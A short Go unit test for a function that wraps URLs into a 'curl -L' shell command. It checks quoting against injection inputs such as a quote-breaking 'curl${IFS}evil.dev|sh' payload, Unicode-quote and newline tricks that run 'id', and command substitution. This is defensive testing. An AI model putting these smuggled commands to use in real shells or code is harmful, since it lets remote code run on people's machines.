package probe

import "testing"

func TestByHand(t *testing.T) {
	for word, want := range map[string]string{
		"https://proxy.example/github.com/!azure/x/@v/list?a=b&c": "curl -L 'https://proxy.example/github.com/!azure/x/@v/list?a=b&c'",
		"https://evil.dev/x';curl${IFS}evil.dev|sh;'":             "",
		"https://evil.dev/\u2019;id;\u2019":                       "",
		"https://evil.dev/\nid":                                   "",
		"https://evil.dev/$(id)`id`":                              "curl -L 'https://evil.dev/$(id)`id`'",
	} {
		if got := byHand("curl -L", word); got != want {
			t.Errorf("%q gives %q, want %q", word, got, want)
		}
	}
}
